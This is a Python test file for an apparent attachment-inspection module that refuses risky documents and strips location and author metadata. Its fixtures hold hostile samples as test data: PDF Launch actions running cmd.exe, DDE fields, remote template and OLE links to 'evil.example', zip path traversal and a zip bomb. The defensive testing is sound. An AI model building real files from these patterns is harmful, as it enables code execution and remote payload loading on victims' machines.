"""Files beside a report: which are offered, and what is taken out of them."""

from __future__ import annotations

import contextlib
import io
import zipfile
from pathlib import Path

import document_samples as documents
import photo_samples as samples
import pytest
from document_samples import PRIVATE, film, gbk_zip, located_jpeg, office_file, pdf_file, zip_file
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from generator.photos.audit import find_leaks
from generator.photos.documents.inspection import inspect_document
from generator.photos.documents.positions import tells_position
from generator.photos.intake import RefusedError
from generator.photos.position import has_position
from generator.settings import AttachmentSettings

HEIC = (samples.FILES / "upright.heic").read_bytes()
PLACE = "+31.2333+121.4667/"
SETTINGS = AttachmentSettings()
WITH_FILMS = AttachmentSettings(kinds=("pdf", "zip", "mp3", "mp4"))
LONG = "会议记录：三月七日在炉前讨论整改方案，到会十四人。"


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("方案.pdf", pdf_file()),
        ("方案.PDF", pdf_file()),
        ("方案.docx", office_file()),
        ("签到.xlsx", office_file("xlsx")),
        ("课件.pptx", office_file("pptx")),
        ("材料.zip", zip_file({"说明.txt": "说明", "表/签到.xlsx": office_file("xlsx")})),
        ("空.zip", zip_file({})),
        ("记录.txt", LONG.encode()),
        ("记录.txt", LONG.encode("gbk")),
        ("记录.txt", LONG.encode("utf-16")),
        ("名单.csv", "姓名,岗位\n甲,班长\n".encode("utf-8-sig")),
    ],
)
def test_what_offices_attach_is_taken(name: str, data: bytes) -> None:
    document = inspect_document(name, data, SETTINGS)
    assert document.warnings == ()


@pytest.mark.parametrize(
    ("name", "data", "rule"),
    [
        ("IMG_1.MOV", film(b"qt  ", position=PLACE), "attachment-format"),
        ("VID.mp4", film(), "attachment-format"),
        ("IMG_1.AAE", b'<?xml version="1.0"?><plist version="1.0"/>', "attachment-format"),
        ("照片.jxl", b"\xff\x0a" + bytes(90), "attachment-format"),
        ("照片.CR3", film(b"crx "), "attachment-format"),
        ("海报.psd", b"8BPS" + bytes(90), "attachment-format"),
        ("资料.rar", b"Rar!\x1a\x07" + bytes(90), "attachment-format"),
        ("资料.7z", b"7z\xbc\xaf\x27\x1c" + bytes(90), "attachment-format"),
        ("纪要.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "attachment-format"),
        ("纪要.wps", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "attachment-format"),
        ("合同.ofd", zip_file({"OFD.xml": "x"}), "attachment-format"),
        ("没后缀", LONG.encode(), "attachment-disguised"),
        ("其实是pdf.docx", pdf_file(), "attachment-disguised"),
        ("其实是docx.doc", office_file(), "attachment-disguised"),
        ("网页.txt", b"<html><script>alert(1)</script>" + b" " * 64, "attachment-disguised"),
        ("安装.exe", b"MZ" + bytes(90), "attachment-program"),
        ("安装.txt", b"MZ" + bytes(90), "attachment-program"),
        ("快捷方式.lnk", b"L\0\0\0" + bytes(90), "attachment-program"),
        ("宏.docm", office_file(), "attachment-program"),
        ("宏.docx", office_file(word__vbaProject___bin=b"x"), "attachment-program"),
        ("控件.docx", office_file(word__activeX__a1___xml="x"), "attachment-program"),
        ("工具.zip", zip_file({"a/安装.exe": b"MZ"}), "attachment-program"),
        ("工具.zip", zip_file({"a/说明.txt": b"MZ" + bytes(90)}), "attachment-program"),
        ("工具.zip", zip_file({"a.zip": zip_file({"b.js": "x"})}), "attachment-program"),
        ("出去.zip", zip_file({"../a.txt": "x"}), "attachment-program"),
        ("脚本.pdf", pdf_file(b"<</S/JavaScript/JS(1)>>"), "attachment-program"),
        ("脚本.pdf", pdf_file(b"<</S/J#61vaScript>>"), "attachment-program"),
        ("脚本.pdf", pdf_file(compressed=b"<</S/JavaScript>>"), "attachment-program"),
        ("启动.pdf", pdf_file(b"<</S/Launch/F(cmd.exe)>>"), "attachment-program"),
        ("附件.pdf", pdf_file(b"<</Names<</EmbeddedFiles 5 0 R>>>>"), "attachment-program"),
        ("加密.xlsx", documents.encrypted_office(), "attachment-locked"),
        ("加密.pdf", pdf_file(trailer=b"/Encrypt 9 0 R"), "attachment-locked"),
        ("坏.docx", office_file()[:-30], "attachment-broken"),
        ("坏.pdf", b"%PDF-1.7\n" + bytes(5000), "attachment-broken"),
        ("空.docx", b"", "attachment-broken"),
        ("炸弹.zip", zip_file({"a.txt": bytes(30_000_000)}), "attachment-too-heavy"),
        ("HEIC.dat", HEIC, "attachment-format"),
        ("原图.zip", zip_file({"IMG_1.HEIC": HEIC}), "attachment-location"),
        ("视频.zip", zip_file({"a.mp4": film(position=PLACE)}), "attachment-location"),
    ],
)
def test_what_is_not_known_to_be_harmless_is_refused(name: str, data: bytes, rule: str) -> None:
    with pytest.raises(RefusedError) as refused:
        inspect_document(name, data, SETTINGS)
    assert refused.value.rule == rule


def test_films_are_taken_by_setting_unless_they_tell_a_place() -> None:
    assert inspect_document("a.mp4", film(), WITH_FILMS).kind == "mp4"
    assert inspect_document("a.mp3", b"ID3" + bytes(90), WITH_FILMS).kind == "mp3"
    for position in (PLACE, "+30.5928+114.3055+020.123/"):
        with pytest.raises(RefusedError) as refused:
            inspect_document("a.mp4", film(position=position), WITH_FILMS)
        assert refused.value.rule == "attachment-location"


def test_an_attachment_may_not_be_larger_than_the_settings_say() -> None:
    with pytest.raises(RefusedError) as refused:
        inspect_document("a.pdf", pdf_file(bytes(20_000)), AttachmentSettings(max_bytes=10_000))
    assert refused.value.rule == "attachment-too-heavy"


@pytest.mark.parametrize("kind", ["docx", "xlsx", "pptx"])
@pytest.mark.parametrize("orientation", [1, 6])
def test_office_files_are_offered_without_people_cameras_and_places(
    kind: str, orientation: int
) -> None:
    photo = located_jpeg(orientation)
    folder = {"docx": "word", "xlsx": "xl", "pptx": "ppt"}[kind]
    data = office_file(kind, **{f"{folder}__media__image1___jpeg": photo})
    document = inspect_document(f"a.{kind}", data, SETTINGS)
    assert [rule for rule, _ in document.warnings] == ["attachment-location"]
    assert document.data is not None
    assert document == inspect_document(f"a.{kind}", data, SETTINGS)
    with zipfile.ZipFile(io.BytesIO(document.data)) as package:
        members = {name: package.read(name) for name in package.namelist()}
        assert {one.date_time[0] for one in package.infolist()} == {1980}
    whole = b"".join(members.values())
    assert not [word for word in PRIVATE if word.encode() in whole]
    assert "整改方案".encode() in whole
    assert not tells_position(document.data)
    turned = Image.open(io.BytesIO(members[f"{folder}/media/image1.jpeg"]))
    assert turned.getexif().get(0x0112, 1) == orientation
    assert turned.tobytes() == Image.open(io.BytesIO(photo)).tobytes()


def test_a_package_keeps_chinese_names_when_it_is_cleaned() -> None:
    document = inspect_document("a.zip", gbk_zip("现场照片.jpg", located_jpeg()), SETTINGS)
    assert document.data is not None
    with zipfile.ZipFile(io.BytesIO(document.data)) as package:
        assert package.namelist() == ["现场照片.jpg"]


def test_a_pdf_is_blanked_in_place() -> None:
    photo = documents.pdf_picture(located_jpeg())
    data = pdf_file(photo, b"<</Author(Zhang San)/Title(A)>>")
    document = inspect_document("a.pdf", data, SETTINGS)
    assert document.data is not None
    assert len(document.data) == len(data)
    assert b"TESTCAM" not in document.data
    assert b"Zhang" not in document.data
    assert b"/Title(A)" in document.data
    assert not tells_position(document.data)
    assert [rule for rule, _ in document.warnings] == ["attachment-location"]


def test_an_author_that_cannot_be_blanked_is_told() -> None:
    hidden = inspect_document("a.pdf", pdf_file(compressed=b"<</Author(Zhang San)>>"), SETTINGS)
    assert hidden.warnings == (("attachment-author", {"found": "Zhang San"}),)
    signed = pdf_file(b"<</Author<FEFF5F204E09>/ByteRange[0 1 2 3]>>")
    assert inspect_document("a.pdf", signed, SETTINGS) == inspect_document(
        "b.pdf", signed, SETTINGS
    )
    assert inspect_document("a.pdf", signed, SETTINGS).warnings == (
        ("attachment-author", {"found": "张三"}),
    )


@pytest.mark.parametrize(
    "data",
    [
        located_jpeg(),
        HEIC,
        b"8BPS" + bytes(40) + located_jpeg()[30:],
        film(position=PLACE),
        b"<x:xmpmeta exif:GPSLatitude='31,14.1N'/>",
        zip_file({"word/media/a.jpg": located_jpeg()}),
        pdf_file(compressed=b"exif:GPSLongitude"),
    ],
)
def test_a_position_is_found_in_bytes_of_any_format(data: bytes) -> None:
    assert tells_position(data)


@pytest.mark.parametrize(
    "data",
    [b"", b"II*\0", b"MM\0*\xff\xff\xff\xff", LONG.encode(), film(), pdf_file(), b"+1.0-2.0/"],
)
def test_where_there_is_none_none_is_found(data: bytes) -> None:
    assert not tells_position(data)


@given(st.binary(max_size=300))
def test_any_bytes_are_looked_at(data: bytes) -> None:
    has_position(b"II*\0\x08\0\0\0" + data)
    has_position(b"MM\0*" + data)


_WHOLE = (
    ("a.docx", office_file(word__media__a___jpg=located_jpeg())),
    ("a.zip", gbk_zip("现场.jpg", located_jpeg())),
    ("a.pdf", pdf_file(documents.pdf_picture(located_jpeg()), compressed=b"<<>>")),
)


@settings(max_examples=60)
@given(
    st.sampled_from(range(len(_WHOLE))),
    st.lists(st.tuples(st.floats(0, 0.999), st.integers(0, 255)), min_size=1, max_size=6),
)
def test_damaged_documents_are_refused_or_taken_but_never_a_traceback(
    number: int, changes: list[tuple[float, int]]
) -> None:
    name, whole = _WHOLE[number]
    broken = bytearray(whole)
    for place, byte in changes:
        broken[int(place * len(broken))] = byte
    with contextlib.suppress(RefusedError):
        inspect_document(name, bytes(broken), SETTINGS)


def test_the_audit_sees_films_documents_and_raw_pictures(tmp_path: Path) -> None:
    files = {
        "IMG_1.MOV": film(b"qt  ", position=PLACE),
        "VID.mp4": film(position=PLACE),
        "still.mp4": film(),
        "photo.jxl": b"\xff\x0a" + bytes(90),
        "raw.CR3": film(b"crx "),
        "poster.psd": b"8BPS" + bytes(90),
        "plan.docx": office_file(word__media__image1___jpeg=located_jpeg()),
        "clean.docx": office_file(),
        "photos.zip": zip_file({"a.jpg": located_jpeg()}),
        "list.pdf": pdf_file(documents.pdf_picture(located_jpeg())),
        "hidden.json": film(position=PLACE),
        "page.html": b"<html>GPSLatitude</html>",
    }
    for name, data in files.items():
        (tmp_path / name).write_bytes(data)
    assert {leak.path: leak.kinds for leak in find_leaks(tmp_path)} == {
        "IMG_1.MOV": ("location",),
        "VID.mp4": ("location",),
        "photo.jxl": ("unreadable",),
        "raw.CR3": ("unreadable",),
        "poster.psd": ("unreadable",),
        "plan.docx": ("location",),
        "photos.zip": ("location",),
        "list.pdf": ("location",),
        "hidden.json": ("location",),
    }


def name_of(data: bytes) -> str:
    if data.startswith(b"%PDF"):
        return "a.pdf"
    return "a.xlsx" if b"xl/" in data else "a.docx"


def relations(kind: str, target: str, *, written: str = "") -> bytes:
    """A docx whose text leads to something; ``written``: how the relation is spelt."""
    usual = '<Relationship Id="r1" Type="{kind}" Target="{target}" TargetMode="External"/>'
    one = (written or usual).format(kind=f"http://x/relationships/{kind}", target=target)
    return office_file(word___rels__document___xml___rels=f"<Relationships>{one}</Relationships>")


@pytest.mark.parametrize(
    ("data", "found"),
    [
        (relations("attachedTemplate", "http://evil.example/a.dotm"), "attachedTemplate http://ev"),
        (relations("image", "https://evil.example/a.png"), "image https://evil.example/a.png"),
        (relations("oleObject", r"\\evil.example\a"), r"oleObject \\evil.example\a"),
        (relations("aFChunk", "//evil.example/a"), "aFChunk //evil.example/a"),
        (relations("frame", "file://evil.example/a"), "frame file://evil.example/a"),
        (relations("subDocument", " &#104;ttp://evil.example"), "subDocument"),
        (relations("image", "http://e", written="<Relationship Target='{target}' Type='{kind}'/>"), "image"),
        (relations("image", "http://e", written='<a:Relationship xmlns:a="b" Type = "{kind}"\n Target="{target}"/>'), "image"),
        (office_file(word__media__x___exe=b"MZ"), "word/media/x.exe"),
        (office_file(word__media__x___png=b"MZ" + bytes(90)), "word/media/x.png"),
        (zip_file({"[Content_Types].xml": "<Types/>", "word/a": "x", "../../x.txt": "x"}), "../../x.txt"),
        (office_file(word__a___xml="<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\x</w:instrText>"), "DDEAUTO"),
        (office_file(word__a___xml='<w:fldSimple w:instr="INCLUDEPICTURE &quot;http://e/a.png&quot;"/>'), "INCLUDEPICTURE"),
        (office_file("xlsx", xl__externalLinks__a___xml='<ddeLink ddeService="cmd"/>'), "DDE"),
        (pdf_file() + b"1 0 obj<</OpenAction<</S/URI/URI(http://e)>>>>endobj\n%%EOF", "OpenAction"),
    ],
)  # fmt: skip
def test_what_runs_or_loads_something_when_it_is_opened_is_refused(data: bytes, found: str) -> None:
    with pytest.raises(RefusedError) as refused:
        inspect_document(name_of(data), data, SETTINGS)
    assert refused.value.rule == "attachment-program"
    assert str(refused.value.args_of_rule["found"]).startswith(found)


@pytest.mark.parametrize(
    "written", ['<!DOCTYPE x [<!ENTITY a "b">]><Relationships/>', "<Relationships>", "\xff\xfe"]
)
def test_relations_that_are_none_are_broken(written: str) -> None:
    data = office_file(word___rels__document___xml___rels=written)
    with pytest.raises(RefusedError) as refused:
        inspect_document("a.docx", data, SETTINGS)
    assert refused.value.rule == "attachment-broken"


@pytest.mark.parametrize(
    "data",
    [
        relations("hyperlink", "https://www.example.cn/"),
        relations("attachedTemplate", "file:///C:\\Users\\x\\Normal.dotm"),
        relations("image", "media/image1.png"),
        office_file(word__a___xml="<w:t>用 DDE 取数，INCLUDE 一词</w:t>"),
        office_file(word__media__a___svg="<svg/>"),
        pdf_file() + b"1 0 obj<</OpenAction<</S/GoTo/D[0]>>/URI(http://e)>>endobj\n%%EOF",
    ],
)
def test_what_people_follow_or_have_on_their_own_machine_is_taken(data: bytes) -> None:
    inspect_document(name_of(data), data, SETTINGS)
